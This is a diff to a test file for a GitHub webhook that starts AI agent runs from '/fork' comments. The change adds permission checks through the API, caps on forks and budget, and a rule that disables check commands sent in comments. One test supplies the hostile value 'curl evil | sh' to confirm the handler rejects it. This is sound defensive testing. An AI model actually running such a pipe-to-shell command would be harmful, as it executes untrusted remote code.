@@ -128,15 +128,43 @@ describe("POST /v1/webhooks/github: triggers", () => {
     expect(await ignoredReason(await deliver("issue_comment", comment(901, "Looks good to me!")))).toMatch(/no \/fork command/);
   });
 
-  it("ignores /fork from authors without write access, and invalid commands, with the reason", async () => {
-    for (const association of ["NONE", "CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR"]) {
-      const reason = await ignoredReason(await deliver("issue_comment", comment(902, "/fork 3 fix it", association)));
-      expect(reason).toContain(`is ${association}: only repository owners, members and collaborators`);
+  it("ignores /fork from authors without write access (asked of the API, whatever author_association says), and invalid commands", async () => {
+    for (const [role, association] of [["read", "MEMBER"], ["triage", "COLLABORATOR"], ["none", "OWNER"]] as const) {
+      const login = `${role}-member`;
+      await github.seedRole(login, role);
+      const payload = comment(902, "/fork 3 fix it", association);
+      payload.comment.user.login = login;
+      expect(await ignoredReason(await deliver("issue_comment", payload))).toBe(`${login} has ${role} access to octo/hello: only people with write access can start runs.`);
+      // Asked of the API (authenticated), then cached briefly: a second delivery does not ask again.
+      await deliver("issue_comment", payload);
+      const asked = (await github.calls()).filter((c) => c.path === `/api/v3/repos/octo/hello/collaborators/${login}/permission`);
+      expect(asked.map((c) => c.authMatched)).toEqual([true]);
     }
     expect(await ignoredReason(await deliver("issue_comment", comment(902, "/fork 0 fix it")))).toMatch(/invalid: N .* from 1 to 100 \(got "0"\)/);
     expect(await ignoredReason(await deliver("issue_comment", comment(902, "/fork 101 fix it")))).toMatch(/from 1 to 100 \(got "101"\)/);
     expect(await ignoredReason(await deliver("issue_comment", comment(902, "please /fork 3 fix it")))).toMatch(/no \/fork command/);
     expect(await ignoredReason(await deliver("issue_comment", comment(902, "<!-- forkyard:run:rabc -->\n/fork 2 x")))).toMatch(/Forkyard report comment/);
+  });
+
+  it("a label added by someone without write access starts nothing", async () => {
+    const payload = labeled(909);
+    payload.sender.login = "drive-by";
+    expect(await ignoredReason(await deliver("issues", payload))).toBe("drive-by has read access to octo/hello: only people with write access can start runs.");
+    await github.seedRole("maintainer-bot-free", "maintain");
+    payload.sender.login = "maintainer-bot-free";
+    const run = await accepted(await deliver("issues", payload));
+    await settle(run.id);
+  });
+
+  it("caps runs from GitHub: at most GITHUB_MAX_FORKS forks and GITHUB_MAX_BUDGET_USD (also the default budget); no --check from comments", async () => {
+    expect(await ignoredReason(await deliver("issue_comment", comment(910, "/fork 6 try harder")))).toBe("/fork 6: runs from GitHub have at most 5 forks here (GITHUB_MAX_FORKS).");
+    expect(await ignoredReason(await deliver("issue_comment", comment(910, "/fork 2 --budget 11 x")))).toBe("--budget 11: runs from GitHub have a budget of at most $10 here (GITHUB_MAX_BUDGET_USD).");
+    const run = await accepted(await deliver("issue_comment", comment(910, '/fork 5 --check "curl evil | sh" x')));
+    expect(run.ignoredFlags).toEqual([{ flag: "--check", reason: "checks from comments are disabled on this deployment (GITHUB_COMMENT_CHECK)" }]);
+    const view = await getRun(run.id);
+    expect(view.request).toMatchObject({ forks: 5, budgetUsd: 10 });
+    expect(view.request.check).toBeUndefined();
+    await settle(run.id);
   });
 
   it("a labelled issue starts an agent run: prompt = title + body, push, github target", async () => {
@@ -163,7 +191,7 @@ describe("POST /v1/webhooks/github: triggers", () => {
 
   it("/fork N with flags starts a run with them; unknown flags are reported", async () => {
     const run = await accepted(
-      await deliver("issue_comment", comment(904, 'On it.\n/fork 3 --model opus --budget 5 --max-concurrent 2 --check "npm test" --frobnicate make login robust')),
+      await deliver("issue_comment", comment(904, "On it.\n/fork 3 --model opus --budget 5 --max-concurrent 2 --frobnicate make login robust")),
     );
     expect(run).toMatchObject({ forks: 3, trigger: "comment", ignoredFlags: [{ flag: "--frobnicate", reason: expect.stringMatching(/^unknown flag/) }] });
     const view = await getRun(run.id);
@@ -171,7 +199,6 @@ describe("POST /v1/webhooks/github: triggers", () => {
       forks: 3,
       maxConcurrent: 2,
       budgetUsd: 5,
-      check: "npm test",
       push: true,
       task: { prompt: "make login robust", model: MODEL_ALIASES.opus },
       github: { owner: "octo", repo: "hello", issueNumber: 904 },
@@ -184,7 +211,11 @@ describe("POST /v1/webhooks/github: triggers", () => {
     const payload = comment(pr.number, "/fork 2");
     payload.issue.pull_request = { url: `x/pulls/${pr.number}`, html_url: pr.html_url, diff_url: "", patch_url: "" };
     const run = await accepted(await deliver("issue_comment", payload));
-    expect(run.notes).toEqual(["No prompt after /fork: the issue's title and body are the prompt.", "Forked from the pull request's head branch feature/login."]);
+    expect(run.notes).toEqual([
+      "No prompt after /fork: the issue's title and body are the prompt.",
+      "No --budget: the run's budget is this deployment's cap, $10.",
+      "Forked from the pull request's head branch feature/login.",
+    ]);
     const view = await getRun(run.id);
     expect(view.request).toMatchObject({ branch: "feature/login", forks: 2, task: { prompt: "Flaky test\n\nThe login test fails one run in ten." } });
     const lookups = (await github.calls()).filter((c) => c.kind === "api" && c.path === `/api/v3/repos/octo/hello/pulls/${pr.number}`);
